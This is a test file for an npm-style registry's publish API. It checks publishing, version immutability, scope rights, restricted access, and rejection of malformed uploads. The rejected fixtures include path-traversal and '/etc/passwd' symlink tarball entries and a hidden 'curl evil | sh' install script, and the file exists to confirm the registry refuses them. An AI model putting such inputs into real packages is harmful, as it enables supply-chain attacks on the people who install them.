// npm publish through buildApp + inject: success, immutability, replay, rights, and every bad input of issue #4
// answered with an npm-style {error} and nothing persisted. Each case runs for a scoped and an unscoped name.
import { randomBytes } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { verifySignature } from '../../registry/npm/signing.ts';
import { makeGem } from '../fixtures/rubygems/gem-fixtures.ts';
import { addUser, bearer, buildTestRegistry, counts, docPath, makeTgz, publishBody } from '../helpers/npm-fixtures.ts';

type Reg = Awaited<ReturnType<typeof buildTestRegistry>>;

for (const name of ['pub-test', '@acme/pub-test']) {
  describe(`npm publish (${name})`, () => {
    let r: Reg;
    beforeEach(async () => {
      r = await buildTestRegistry();
    });
    afterEach(async () => r.app.close());

    const put = (body: unknown, headers: Record<string, string> = bearer(r.alice), pkg = name) =>
      r.app.inject({
        method: 'PUT',
        url: docPath(pkg),
        headers: { 'content-type': 'application/json', ...headers },
        payload: typeof body === 'string' ? body : JSON.stringify(body),
      });

    it('publishes: 201, the packument carries server-built dist, maintainers, time, _rev and a valid signature', async () => {
      const res = await put(publishBody(name, '1.0.0', { pkg: { dependencies: { semver: '^7.0.0' } }, readme: '# hello' }));
      expect(res.statusCode).toBe(201);
      const doc = await r.app.inject({ method: 'GET', url: docPath(name), headers: { host: 'reg.example:4873' } });
      expect(doc.statusCode).toBe(200);
      const d = doc.json();
      expect(d.name).toBe(name);
      expect(d['dist-tags']).toEqual({ latest: '1.0.0' });
      expect(d._rev).toMatch(/^\d+-[0-9a-f]{32}$/);
      expect(d.maintainers).toEqual([{ name: 'alice', email: 'alice@example.test' }]);
      expect(d.readme).toBe('# hello');
      expect(d.time['1.0.0']).toBe('2026-11-26T10:00:00.000Z');
      const v = d.versions['1.0.0'];
      const bare = name.split('/').pop();
      expect(v.dist.tarball).toBe(`http://reg.example:4873/npm/${name}/-/${bare}-1.0.0.tgz`);
      expect(v._npmUser).toEqual({ name: 'alice', email: 'alice@example.test' });
      expect(v.dependencies).toEqual({ semver: '^7.0.0' });
      expect(v.readme).toBeUndefined();
      const [sig] = v.dist.signatures;
      expect(sig.keyid).toBe(r.signer.keyid);
      expect(verifySignature(r.signer.publicKeyBase64, name, '1.0.0', v.dist.integrity, sig.sig)).toBe(true);
      expect(counts(r.db)).toMatchObject({ packages: 1, versions: 1, burned: 1, outbox: 1 });
      const event = JSON.parse((r.db.prepare('SELECT payload FROM outbox').get() as { payload: string }).payload);
      expect(event).toMatchObject({
        type: 'package.published',
        subject: `package:${name}`,
        data: {
          name,
          version: '1.0.0',
          tag: 'latest',
          packageId: `pkg-${(r.db.prepare('SELECT id FROM packages').get() as { id: number }).id}`,
          access: 'public',
        },
      });
      // The audit entry travels beside the event, in the same transaction, naming the publisher.
      const audit = JSON.parse(
        (r.db.prepare("SELECT payload FROM outbox WHERE type = 'audit.entry'").get() as { payload: string }).payload,
      );
      expect(audit.data).toEqual({
        actorId: r.alice.id,
        actorUsername: 'alice',
        action: 'package.publish',
        target: `package:${name}`,
        details: { ecosystem: 'npm', name, version: '1.0.0', tag: 'latest' },
        ip: '127.0.0.1',
        userAgent: 'lightMyRequest',
      });
    });

    it('an identical replay succeeds (npm retries PUTs); other bytes under the same version get 403', async () => {
      const body = publishBody(name, '1.0.0');
      expect((await put(body)).statusCode).toBe(201);
      expect((await put(body)).statusCode).toBe(200);
      const other = await put(publishBody(name, '1.0.0', { pkg: { description: 'different bytes' } }));
      expect(other.statusCode).toBe(403);
      expect(other.json().error).toBe('You cannot publish over the previously published versions: 1.0.0.');
      expect(counts(r.db)).toMatchObject({ versions: 1, outbox: 1 });
    });

    it('an unpublished version can never be published again, even with identical bytes', async () => {
      const body = publishBody(name, '1.0.0');
      await put(body);
      await put(publishBody(name, '1.1.0'));
      const doc = (await r.app.inject({ method: 'GET', url: `${docPath(name)}?write=true` })).json();
      const del = await r.app.inject({ method: 'DELETE', url: `${docPath(name)}/-rev/${doc._rev}`, headers: bearer(r.alice) });
      expect(del.statusCode).toBe(200);
      const again = await put(body);
      expect(again.statusCode).toBe(403);
      // npm's sentence, then why a version no listing shows is said to exist.
      expect(again.json().error).toMatch(
        /^You cannot publish over the previously published versions: 1\.0\.0\. 1\.0\.0 was unpublished on \d{4}-\d\d-\d\dT[\d:.]+Z, and an unpublished version number can never be used again: publish a new version\.$/,
      );
    });

    it('--tag sets only that tag; the next latest publish moves latest', async () => {
      await put(publishBody(name, '1.0.0'));
      expect((await put(publishBody(name, '2.0.0-beta.1', { tag: 'beta' }))).statusCode).toBe(201);
      const tags = await r.app.inject({ method: 'GET', url: `/npm/-/package/${name.replace('/', '%2f')}/dist-tags` });
      expect(tags.json()).toEqual({ latest: '1.0.0', beta: '2.0.0-beta.1' });
    });

    it('the first publish of a package with --tag also gets latest, as npmjs does, so npm install <name> finds it', async () => {
      expect((await put(publishBody(name, '1.0.0-beta.1', { tag: 'beta' }))).statusCode).toBe(201);
      const tagsPath = `/npm/-/package/${name.replace('/', '%2f')}/dist-tags`;
      expect((await r.app.inject({ method: 'GET', url: tagsPath })).json()).toEqual({ latest: '1.0.0-beta.1', beta: '1.0.0-beta.1' });
      // latest exists from then on: a later --tag publish leaves it alone.
      expect((await put(publishBody(name, '1.0.0-beta.2', { tag: 'beta' }))).statusCode).toBe(201);
      expect((await r.app.inject({ method: 'GET', url: tagsPath })).json()).toEqual({ latest: '1.0.0-beta.1', beta: '1.0.0-beta.2' });
      const doc = await r.app.inject({ method: 'GET', url: docPath(name) });
      expect(doc.json()['dist-tags'].latest).toBe('1.0.0-beta.1');
    });

    it('only maintainers (or members of the org scope) may publish new versions', async () => {
      await put(publishBody(name, '1.0.0'));
      const res = await put(publishBody(name, '1.0.1'), bearer(r.bob));
      expect(res.statusCode).toBe(403);
      expect(res.json().error).toContain('you are not a maintainer of');
      expect((await put(publishBody(name, '1.0.2'), bearer(r.admin))).statusCode).toBe(201);
    });

    it('no token or a bad token: 401; a read-only token: 403; nothing persisted', async () => {
      const none = await put(publishBody(name, '1.0.0'), {});
      expect(none.statusCode).toBe(401);
      expect(none.json().error).toBe(
        'authentication required: run npm login, or set an auth token for this registry in .npmrc (the token may be revoked or expired)',
      );
      expect((await put(publishBody(name, '1.0.0'), { authorization: 'Bearer elk_notavalidtoken' })).statusCode).toBe(401);
      const ro = await put(publishBody(name, '1.0.0'), { authorization: `Bearer ${r.alice.readonlyToken}` });
      expect(ro.statusCode).toBe(403);
      expect(counts(r.db)).toEqual({ packages: 0, versions: 0, burned: 0, outbox: 0, audit: 0, blobs: 0 });
    });
  });
}

describe('npm publish: scopes and restricted access', () => {
  let r: Reg;
  beforeEach(async () => {
    r = await buildTestRegistry();
  });
  afterEach(async () => r.app.close());
  const put = (name: string, body: unknown, token: string) =>
    r.app.inject({
      method: 'PUT',
      url: docPath(name),
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      payload: body as object,
    });

  it('into an org scope you are not in: 403; into your own @username scope: 201', async () => {
    const res = await put('@acme/x', publishBody('@acme/x', '1.0.0'), r.bob.token);
    expect(res.statusCode).toBe(403);
    expect(res.json().error).toBe('you cannot publish into the @acme scope: it is neither your username nor an org you are a member of');
    expect((await put('@bob/x', publishBody('@bob/x', '1.0.0'), r.bob.token)).statusCode).toBe(201);
    expect(counts(r.db).packages).toBe(1);
  });

  it('into a scope no org or user holds: 403 that says to create the org first, and nothing stored', async () => {
    const res = await put('@myorg/awesome-package', publishBody('@myorg/awesome-package', '1.0.0'), r.bob.token);
    expect(res.statusCode).toBe(403);
    expect(res.json()).toMatchObject({
      code: 'SCOPE_FORBIDDEN',
      error: 'there is no org @myorg yet: create it (dashboard, Account page, or POST /api/orgs {"name":"myorg"}) and publish again',
    });
    // Another user's scope keeps the plain refusal.
    expect((await put('@alice/x', publishBody('@alice/x', '1.0.0'), r.bob.token)).json().error).toContain('neither your username');
    expect(counts(r.db).packages).toBe(0);
  });

  it('--access restricted hides the package (404) from non-members and needs a plan with private packages', async () => {
    expect((await put('@acme/secret', publishBody('@acme/secret', '1.0.0', { access: 'restricted' }), r.alice.token)).statusCode).toBe(201);
    expect((await r.app.inject({ method: 'GET', url: docPath('@acme/secret') })).statusCode).toBe(404);
    expect((await r.app.inject({ method: 'GET', url: docPath('@acme/secret'), headers: bearer(r.bob) })).statusCode).toBe(404);
    expect((await r.app.inject({ method: 'GET', url: docPath('@acme/secret'), headers: bearer(r.alice) })).statusCode).toBe(200);
    const tgz = await r.app.inject({ method: 'GET', url: '/npm/@acme/secret/-/secret-1.0.0.tgz' });
    expect(tgz.statusCode).toBe(404);
    // The event says so, so the main API's analytics hide its download counts from the first one.
    const published = r.db.prepare("SELECT payload FROM outbox WHERE type = 'package.published'").get() as { payload: string };
    expect(JSON.parse(published.payload).data).toMatchObject({ name: '@acme/secret', access: 'restricted' });
    const free = await put('@freeuser/p', publishBody('@freeuser/p', '1.0.0', { access: 'restricted' }), r.free.token);
    expect(free.statusCode).toBe(403);
    expect(free.json().code).toBe('PLAN_LIMIT_EXCEEDED');
  });

  it('a package.json version with build metadata publishes as npm sends it, without (npm drops it); another version is refused', async () => {
    const files = (v: string) => [
      { path: 'package/package.json', content: JSON.stringify({ name: 'built', version: v }) },
      { path: 'package/index.js', content: '1' },
    ];
    const ok = await put('built', publishBody('built', '1.0.0', { tarball: makeTgz(files('1.0.0+build.1')) }), r.alice.token);
    expect(ok.statusCode).toBe(201);
    const other = await put('built', publishBody('built', '1.0.1', { tarball: makeTgz(files('1.0.2+build.1')) }), r.alice.token);
    expect([other.statusCode, other.json().code]).toEqual([400, 'MANIFEST_MISMATCH']);
  });

  it('an account with the role user publishes nothing, in any ecosystem: 403 ROLE_REQUIRED, nothing stored', async () => {
    const plain = addUser(r.identity, 'plainuser', 'user');
    const before = counts(r.db);
    const npm = await put('plain-pkg', publishBody('plain-pkg', '1.0.0'), plain.token);
    expect([npm.statusCode, npm.json().code]).toEqual([403, 'ROLE_REQUIRED']);
    expect(npm.json().error).toBe(
      'plainuser has the role user, which installs packages but does not publish them: an admin can make the account a publisher',
    );
    const gem = await r.app.inject({
      method: 'POST',
      url: '/rubygems/api/v1/gems',
      headers: { authorization: plain.token, 'content-type': 'application/octet-stream' },
      payload: makeGem('plain_gem', '1.0.0'),
    });
    expect(gem.statusCode).toBe(403);
    expect(counts(r.db)).toEqual(before);
  });

  it('20 concurrent publishes of distinct versions of one package are all present', async () => {
    await put('conc', publishBody('conc', '0.0.1'), r.alice.token);
    const results = await Promise.all(Array.from({ length: 20 }, (_, i) => put('conc', publishBody('conc', `1.0.${i}`), r.alice.token)));
    expect(results.map((x) => x.statusCode)).toEqual(Array(20).fill(201));
    const doc = (await r.app.inject({ method: 'GET', url: '/npm/conc' })).json();
    expect(Object.keys(doc.versions)).toHaveLength(21);
  });
});

describe('npm publish: bad input is refused with {error} and nothing persisted', () => {
  let r: Reg;
  beforeEach(async () => {
    r = await buildTestRegistry({ BODY_LIMIT_MB: '1' });
  });
  afterEach(async () => r.app.close());

  for (const name of ['bad-test', '@acme/bad-test']) {
    const bare = name.split('/').pop();
    const pj = (extra: Record<string, unknown> = {}) =>
      JSON.stringify({ name, version: '1.0.0', description: `${name} test package`, ...extra });
    const cases: [string, () => unknown, number, RegExp][] = [
      ['malformed JSON', () => '{"name":', 400, /not valid JSON/],
      ['non-semver version', () => publishBody(name, '1.0'), 400, /invalid version "1.0"/],
      [
        'two versions',
        () => {
          const b = publishBody(name, '1.0.0');
          (b.versions as Record<string, unknown>)['1.0.1'] = b.versions['1.0.0'];
          return b;
        },
        400,
        /exactly one version/,
      ],
      [
        'missing attachment',
        () => ({ ...publishBody(name, '1.0.0'), _attachments: { 'other.sigstore': {} } }),
        400,
        /exactly one tarball attachment/,
      ],
      [
        'extra attachment',
        () => {
          const b = publishBody(name, '1.0.0');
          return { ...b, _attachments: { ...b._attachments, [`${bare}-9.9.9.tgz`]: { data: 'AAAA' } } };
        },
        400,
        /exactly one tarball attachment/,
      ],
      [
        'mismatched attachment name',
        () => {
          const b = publishBody(name, '1.0.0');
          return { ...b, _attachments: { [`${bare}-2.0.0.tgz`]: Object.values(b._attachments)[0] } };
        },
        400,
        /attachment must be named/,
      ],
      [
        'base64 garbage',
        () => {
          const b = publishBody(name, '1.0.0');
          return { ...b, _attachments: { [`${name}-1.0.0.tgz`]: { data: '!!!not base64***' } } };
        },
        400,
        /not valid base64/,
      ],
      [
        'length mismatch',
        () => {
          const b = publishBody(name, '1.0.0');
          const a = Object.values(b._attachments)[0];
          return { ...b, _attachments: { [`${name}-1.0.0.tgz`]: { ...a, length: a.length + 1 } } };
        },
        400,
        /length/,
      ],
      [
        'integrity mismatch',
        () => {
          const b = publishBody(name, '1.0.0');
          (b.versions['1.0.0'] as { dist: { integrity: string } }).dist.integrity = `sha512-${Buffer.alloc(64).toString('base64')}`;
          return b;
        },
        400,
        /dist.integrity does not match/,
      ],
      [
        'shasum mismatch',
        () => {
          const b = publishBody(name, '1.0.0');
          (b.versions['1.0.0'] as { dist: { shasum: string } }).dist.shasum = '0'.repeat(40);
          return b;
        },
        400,
        /dist.shasum does not match/,
      ],
      ['not gzip', () => publishBody(name, '1.0.0', { tarball: Buffer.from('plain text, not a tarball at all') }), 400, /not gzip/],
      [
        '"../" path',
        () =>
          publishBody(name, '1.0.0', {
            files: [
              { path: 'package/package.json', content: pj() },
              { path: 'package/../../evil', content: 'x' },
            ],
          }),
        400,
        /"\.\."/,
      ],
      [
        'absolute path',
        () =>
          publishBody(name, '1.0.0', {
            files: [
              { path: 'package/package.json', content: pj() },
              { path: '/etc/evil', content: 'x' },
            ],
          }),
        400,
        /absolute/,
      ],
      [
        'symlink',
        () =>
          publishBody(name, '1.0.0', {
            files: [
              { path: 'package/package.json', content: pj() },
              { path: 'package/l', type: '2', linkname: '/etc/passwd' },
            ],
          }),
        400,
        /link/,
      ],
      [
        'hard link',
        () =>
          publishBody(name, '1.0.0', {
            files: [
              { path: 'package/package.json', content: pj() },
              { path: 'package/h', type: '1', linkname: 'package/package.json' },
            ],
          }),
        400,
        /link/,
      ],
      [
        'device entry',
        () =>
          publishBody(name, '1.0.0', {
            files: [
              { path: 'package/package.json', content: pj() },
              { path: 'package/dev', type: '3' },
            ],
          }),
        400,
        /unsupported entry type/,
      ],
      [
        'no package/package.json',
        () => publishBody(name, '1.0.0', { files: [{ path: 'package/index.js', content: '1' }] }),
        400,
        /no package\/package.json/,
      ],
      [
        'package.json not JSON',
        () => publishBody(name, '1.0.0', { files: [{ path: 'package/package.json', content: '{nope' }] }),
        400,
        /not valid JSON/,
      ],
      [
        'dependencies differ',
        () => publishBody(name, '1.0.0', { manifest: { dependencies: { 'left-pad': '1.0.0' } } }),
        400,
        /dependencies in the manifest differs/,
      ],
      [
        'scripts differ',
        () => publishBody(name, '1.0.0', { pkg: { scripts: { test: 'x' } }, manifest: { scripts: {} } }),
        400,
        /scripts in the manifest differs/,
      ],
      [
        'install script hidden from the manifest',
        () =>
          publishBody(name, '1.0.0', {
            files: [{ path: 'package/package.json', content: pj({ scripts: { install: 'curl evil | sh' } }) }],
          }),
        400,
        /scripts/,
      ],
      [
        'bin differs',
        () => publishBody(name, '1.0.0', { pkg: { bin: { x: 'cli.js' } }, manifest: { bin: { x: 'other.js' } } }),
        400,
        /bin in the manifest differs/,
      ],
      [
        'bin outside the package',
        () => publishBody(name, '1.0.0', { pkg: { bin: { x: '../../etc/passwd' } } }),
        400,
        /points outside the package/,
      ],
      [
        'tarball name differs',
        () =>
          publishBody(name, '1.0.0', {
            files: [{ path: 'package/package.json', content: JSON.stringify({ name: 'other-name', version: '1.0.0' }) }],
          }),
        400,
        /name in the manifest differs/,
      ],
      ['body names another package', () => publishBody('some-other-package', '1.0.0'), 400, /does not match the URL/],
    ];
    for (const [label, body, status, error] of cases) {
      it(`${name}: ${label} -> ${status}`, async () => {
        const payload = body();
        const res = await r.app.inject({
          method: 'PUT',
          url: docPath(name),
          headers: { ...bearer(r.alice), 'content-type': 'application/json' },
          payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
        });
        expect(res.statusCode).toBe(status);
        expect(res.json().error).toMatch(error);
        expect(counts(r.db)).toEqual({ packages: 0, versions: 0, burned: 0, outbox: 0, audit: 0, blobs: 0 });
        expect(r.blobs.size()).toBe(0);
      });
    }

    it(`${name}: oversize body -> 413 with an {error}`, async () => {
      const big = publishBody(name, '1.0.0', {
        files: [
          { path: 'package/package.json', content: pj() },
          { path: 'package/big.bin', content: randomBytes(1024 * 1024) },
        ],
      });
      const res = await r.app.inject({
        method: 'PUT',
        url: docPath(name),
        headers: { ...bearer(r.alice), 'content-type': 'application/json' },
        payload: JSON.stringify(big),
      });
      expect(res.statusCode).toBe(413);
      expect(res.json().error).toMatch(/larger than/);
      expect(counts(r.db).packages).toBe(0);
    });
  }

  // "/npm/.." and "/npm/%2e%2e" are resolved by the router as dot segments and never reach a package route.
  for (const bad of ['..', '%2e%2e']) {
    it(`dot-segment name ${bad} -> 404 with an {error}, nothing persisted`, async () => {
      const res = await r.app.inject({
        method: 'PUT',
        url: `/npm/${bad}`,
        headers: { ...bearer(r.alice), 'content-type': 'application/json' },
        payload: JSON.stringify(publishBody('..', '1.0.0')),
      });
      expect(res.statusCode).toBe(404);
      expect(typeof res.json().error).toBe('string');
      expect(counts(r.db).packages).toBe(0);
    });
  }

  for (const bad of [
    'UPPER',
    '.hidden',
    '_under',
    'a'.repeat(215),
    'node_modules',
    'favicon.ico',
    'a*b',
    'sp ace',
    '@acme/..',
    '@acme%2f..%2f..',
    'a%252eb',
    'http',
    '@acme/a/b',
    '@/x',
    'a%00b',
  ]) {
    it(`invalid name ${JSON.stringify(bad.slice(0, 30))} -> 400`, async () => {
      const res = await r.app.inject({
        method: 'PUT',
        url: `/npm/${bad.includes('%') ? bad : encodeURIComponent(bad).replace('%2F', '%2f')}`,
        headers: { ...bearer(r.alice), 'content-type': 'application/json' },
        payload: JSON.stringify(publishBody(decodeURIComponent(bad.replace('%252e', '.')), '1.0.0')),
      });
      expect(res.statusCode).toBe(400);
      expect(typeof res.json().error).toBe('string');
      expect(counts(r.db)).toEqual({ packages: 0, versions: 0, burned: 0, outbox: 0, audit: 0, blobs: 0 });
    });
  }

  it('a valid tarball is accepted by the same fixtures (sanity)', async () => {
    const res = await r.app.inject({
      method: 'PUT',
      url: '/npm/fine',
      headers: { ...bearer(r.alice), 'content-type': 'application/json' },
      payload: JSON.stringify(
        publishBody('fine', '1.0.0', {
          files: [
            { path: 'package/package.json', content: JSON.stringify({ name: 'fine', version: '1.0.0', description: 'fine test package' }) },
            { path: 'package/lib', type: '5' },
          ],
        }),
      ),
    });
    expect(res.statusCode).toBe(201);
    expect(makeTgz([]).length).toBeGreaterThan(0);
  });
});
